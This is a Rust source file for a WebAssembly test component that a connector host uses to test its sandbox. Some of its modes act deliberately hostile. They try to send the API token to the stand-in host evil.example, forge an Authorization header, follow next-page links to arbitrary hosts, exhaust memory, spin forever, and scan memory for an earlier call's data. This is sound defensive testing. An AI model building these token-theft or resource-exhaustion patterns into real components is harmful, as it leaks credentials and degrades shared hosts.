//! The host's test component. One component with many behaviours, picked by
//! the `TESTBED_MODE` setting, so that every containment test runs a real
//! compiled component through the same runtime path as the real connectors.
//!
//! Modes (for `step`; `describe` and `plan` always behave):
//! - `echo` (default): one event per work item, no network.
//! - `fetch`: GETs the URL in the item's payload and returns the status and
//!   body as one event (used to check tokens, proxy and allow-list).
//! - `trap`: panics (a trap in the host).
//! - `loop`: spins forever without yielding.
//! - `memory-bomb`: allocates and touches memory until stopped.
//! - `scribble`: fills 1 MiB of its memory with a pattern; `scan` counts the
//!   pages of its memory that hold it (one call must not see another's
//!   memory); `scribble-and-scan` does both in one call (the scan works).
//! - `forbidden-host`: GETs `TESTBED_FOREIGN_URL`, a host it never declared.
//! - `own-authorization`: sends its own `Authorization` header to the API.
//! - `log`: writes to stdout, stderr and the host log, then echoes.
//! - `count`: counts its calls in a global (which a fresh instance per call
//!   resets) and returns the count; prints `count call N` to stderr first,
//!   then traps if the payload is `trap`, grows its memory by 24 MiB if it
//!   is `grow`, spins forever if it is `loop`, or GETs the URL after
//!   `fetch:`. (The host's tests of instance reuse add the `reusable`
//!   declaration to a copy of this component; the testbed itself does not
//!   declare it, since this mode keeps state between calls.)
//!
//! Hostile modes, which also change what `describe` asks for (the host must
//! refuse them at load, or send no token where they aim):
//! - `steal-token`: declares the host of `TESTBED_FOREIGN_URL` with the API's
//!   audience (`TESTBED_AUDIENCE`) and GETs it.
//! - `other-audience`: declares the API's host with another API's audience
//!   (`TESTBED_OTHER_AUDIENCE`, Graph by default) and GETs the payload URL.
//! - `follow-link`: GETs the payload URL, then follows the response's next
//!   link (`NextPageUri` header, `@odata.nextLink` or `__next` in the body)
//!   wherever it points, as a careless component would.
//!
//! `describe` declares the API (`TESTBED_API`) only when it is set, so the
//! modes that need no network run under any grant.

use std::sync::atomic::{AtomicU32, Ordering};

use connector_sdk::{
    ConfigError, Context, Endpoint, Event, FetchError, Guest, Info, PlanOutput, PlanRequest,
    Setting, SettingDoc, SettingKind, StepOutput, WorkItem, counter, export, http, log, settings,
};

struct Testbed;

/// Calls this instance has served (`count` mode).
static CALLS: AtomicU32 = AtomicU32::new(0);

const HOUR_MS: u64 = 3_600_000;

fn setting_doc(
    name: &str,
    default: Option<&str>,
    kind: SettingKind,
    description: &str,
) -> SettingDoc {
    SettingDoc {
        name: name.into(),
        default_value: default.map(str::to_string),
        kind,
        description: description.into(),
    }
}

fn mode(settings: &[Setting]) -> String {
    settings::get(settings, "TESTBED_MODE")
        .unwrap_or("echo")
        .to_string()
}

/// What the testbed asks the host for in `mode`.
fn endpoints(settings: &[Setting], mode: &str) -> Result<Vec<Endpoint>, ConfigError> {
    let Some(api) = settings::get(settings, "TESTBED_API") else {
        return Ok(Vec::new());
    };
    let authority = settings::authority_of("TESTBED_API", api)?;
    let audience = settings::get(settings, "TESTBED_AUDIENCE").map(str::to_string);
    let budget = settings::budget(settings, "TESTBED_BUDGET_PER_SECOND", 0, 1000)?;
    let mut endpoints = vec![Endpoint {
        authority,
        audience: audience.clone(),
        budget,
    }];
    match mode {
        "steal-token" => {
            let foreign =
                settings::get(settings, "TESTBED_FOREIGN_URL").unwrap_or("https://evil.example");
            endpoints.push(Endpoint {
                authority: settings::authority_of("TESTBED_FOREIGN_URL", foreign)?,
                audience,
                budget: None,
            });
        }
        "other-audience" => {
            endpoints[0].audience = Some(
                settings::get(settings, "TESTBED_OTHER_AUDIENCE")
                    .unwrap_or("https://graph.microsoft.com")
                    .to_string(),
            );
        }
        _ => {}
    }
    Ok(endpoints)
}

impl Guest for Testbed {
    fn describe(settings: Vec<Setting>) -> Result<Info, ConfigError> {
        let items = settings::get(&settings, "TESTBED_ITEMS").unwrap_or("1");
        if items.parse::<u32>().is_err() {
            return Err(settings::invalid(
                "TESTBED_ITEMS",
                format!("`{items}` is not a whole number"),
            ));
        }
        Ok(Info {
            name: "testbed".into(),
            version: env!("CARGO_PKG_VERSION").into(),
            summary: "Test component for the host's runtime and gate tests".into(),
            settings: vec![
                setting_doc(
                    "TESTBED_MODE",
                    Some("echo"),
                    SettingKind::Text,
                    "What `step` does (and, for the hostile modes, what `describe` asks for).",
                ),
                setting_doc(
                    "TESTBED_API",
                    None,
                    SettingKind::ApiBase,
                    "The one API base it calls; unset: it calls nothing.",
                ),
                setting_doc(
                    "TESTBED_AUDIENCE",
                    None,
                    SettingKind::Audience,
                    "Token audience it asks for TESTBED_API; unset: no token.",
                ),
                setting_doc(
                    "TESTBED_OTHER_AUDIENCE",
                    Some("https://graph.microsoft.com"),
                    SettingKind::Audience,
                    "The audience `other-audience` asks for on TESTBED_API.",
                ),
                setting_doc(
                    "TESTBED_ITEMS",
                    Some("1"),
                    SettingKind::Number,
                    "Work items per planned window.",
                ),
                setting_doc(
                    "TESTBED_FOREIGN_URL",
                    Some("https://evil.example"),
                    SettingKind::Text,
                    "A URL on a host it was never granted.",
                ),
                setting_doc(
                    "TESTBED_BUDGET_PER_SECOND",
                    Some("0"),
                    SettingKind::Number,
                    "Requests per second it asks the host to pace TESTBED_API at (0: none).",
                ),
            ],
            endpoints: endpoints(&settings, &mode(&settings))?,
            max_window: HOUR_MS,
            max_lookback: 24 * HOUR_MS,
            min_age: 0,
            dedup_horizon: 0,
            event_kinds: vec!["Testbed".into()],
        })
    }

    fn plan(ctx: Context, request: PlanRequest) -> Result<PlanOutput, FetchError> {
        let items: u32 = settings::get(&ctx.settings, "TESTBED_ITEMS")
            .and_then(|v| v.parse().ok())
            .unwrap_or(1);
        let window = request.window;
        Ok(PlanOutput {
            items: (0..items)
                .map(|i| WorkItem {
                    kind: "echo".into(),
                    key: format!("{}-{}-{i}", window.start, window.end),
                    payload: format!("{}", window.start),
                    remember_for: None,
                })
                .collect(),
            state: Some(format!("planned-until-{}", window.end)),
            counters: vec![counter("plans", 1)],
        })
    }

    fn step(ctx: Context, item: WorkItem) -> Result<StepOutput, FetchError> {
        match mode(&ctx.settings).as_str() {
            "echo" => Ok(echo(&ctx, &item, String::from("{}"))),
            "log" => {
                println!("hello from stdout");
                eprintln!("hello from stderr");
                log::info(&format!("working on {}", item.key));
                Ok(echo(&ctx, &item, String::from("{}")))
            }
            "fetch" => fetch(&ctx, &item, &item.payload, &[]),
            "own-authorization" => fetch(
                &ctx,
                &item,
                &item.payload,
                &[("Authorization", "Bearer stolen-by-the-guest")],
            ),
            "other-audience" => fetch(&ctx, &item, &item.payload, &[]),
            "steal-token" | "forbidden-host" => {
                let url = settings::get(&ctx.settings, "TESTBED_FOREIGN_URL")
                    .unwrap_or("https://evil.example");
                fetch(&ctx, &item, url, &[])
            }
            "follow-link" => follow_link(&ctx, &item),
            "trap" => panic!("testbed was told to trap"),
            "count" => {
                let n = CALLS.fetch_add(1, Ordering::Relaxed) + 1;
                eprintln!("count call {n}");
                match item.payload.as_str() {
                    "trap" => panic!("testbed was told to trap on call {n}"),
                    "grow" => std::hint::black_box(vec![1u8; 24 << 20]).truncate(0),
                    "loop" => loop {
                        std::hint::black_box(n);
                    },
                    other => {
                        if let Some(url) = other.strip_prefix("fetch:") {
                            return fetch(&ctx, &item, url, &[]);
                        }
                    }
                }
                Ok(echo(&ctx, &item, format!("{{\"calls\":{n}}}")))
            }
            "loop" => {
                let mut n: u64 = 0;
                loop {
                    n = std::hint::black_box(n.wrapping_add(1));
                }
            }
            // Leaves a recognizable pattern in 1 MiB of its memory: the
            // next call must not see it (`scan`).
            "scribble" => {
                let marks = vec![MARK; 1024 * 1024];
                std::hint::black_box(&marks);
                Ok(echo(&ctx, &item, String::from("{}")))
            }
            // Counts the pages of its whole linear memory that hold the
            // pattern; `scribble-and-scan` shows the count sees its own marks.
            "scan" => Ok(echo(
                &ctx,
                &item,
                format!("{{\"marked\":{}}}", marked_pages()),
            )),
            "scribble-and-scan" => {
                let marks = vec![MARK; 1024 * 1024];
                std::hint::black_box(&marks);
                let marked = marked_pages();
                drop(marks);
                Ok(echo(&ctx, &item, format!("{{\"marked\":{marked}}}")))
            }
            "memory-bomb" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![0xA5; 1024 * 1024]);
                    std::hint::black_box(&hoard);
                }
            }
            other => Err(FetchError::BadRequest(format!(
                "unknown TESTBED_MODE `{other}`"
            ))),
        }
    }
}

fn echo(ctx: &Context, item: &WorkItem, detail: String) -> StepOutput {
    StepOutput {
        events: vec![Event {
            id: item.key.clone(),
            time: ctx.now,
            kind: "Testbed".into(),
            partition_key: Some(ctx.tenant.clone()),
            body: format!(
                "{{\"key\":{:?},\"tenant\":{:?},\"detail\":{detail}}}",
                item.key, ctx.tenant
            ),
        }],
        next: Vec::new(),
        counters: vec![counter("steps", 1)],
    }
}

fn fetch(
    ctx: &Context,
    item: &WorkItem,
    url: &str,
    headers: &[(&str, &str)],
) -> Result<StepOutput, FetchError> {
    let response = http::get(url, headers)?;
    if !response.is_success() {
        return Err(http::status_error(&response, url));
    }
    let body = String::from_utf8_lossy(&response.body);
    Ok(echo(
        ctx,
        item,
        format!("{{\"status\":{},\"body\":{:?}}}", response.status, body),
    ))
}

/// GETs the payload URL and follows its next link without looking where it
/// points: the host alone must keep the token from going there.
fn follow_link(ctx: &Context, item: &WorkItem) -> Result<StepOutput, FetchError> {
    let first = http::get(&item.payload, &[])?;
    if !first.is_success() {
        return Err(http::status_error(&first, &item.payload));
    }
    let body: serde_json::Value = serde_json::from_slice(&first.body).unwrap_or_default();
    let link = first
        .header("NextPageUri")
        .map(str::to_string)
        .or_else(|| body["@odata.nextLink"].as_str().map(str::to_string))
        .or_else(|| body["d"]["__next"].as_str().map(str::to_string))
        .ok_or_else(|| FetchError::Fatal(format!("{} gave no next link", item.payload)))?;
    fetch(ctx, item, &link, &[])
}

export!(Testbed);

/// The byte `scribble` writes.
const MARK: u8 = 0xC3;

/// Pages (4 KiB, aligned) of the whole linear memory filled with [`MARK`]:
/// what a call can see of an earlier one's memory, stack and data included.
fn marked_pages() -> usize {
    #[cfg(target_arch = "wasm32")]
    {
        const PAGE: usize = 4096;
        let size = core::arch::wasm32::memory_size(0) * 65536;
        // Page 0 is skipped: reading address 0 is a null dereference to the
        // compiler, and nothing is allocated there.
        (1..size / PAGE)
            .filter(|page| {
                (page * PAGE..(page + 1) * PAGE).all(|address| {
                    // SAFETY: every address below `memory_size` is mapped
                    // linear memory; this reads bytes, whatever they hold.
                    unsafe { core::ptr::read_volatile(address as *const u8) == MARK }
                })
            })
            .count()
    }
    #[cfg(not(target_arch = "wasm32"))]
    0
}
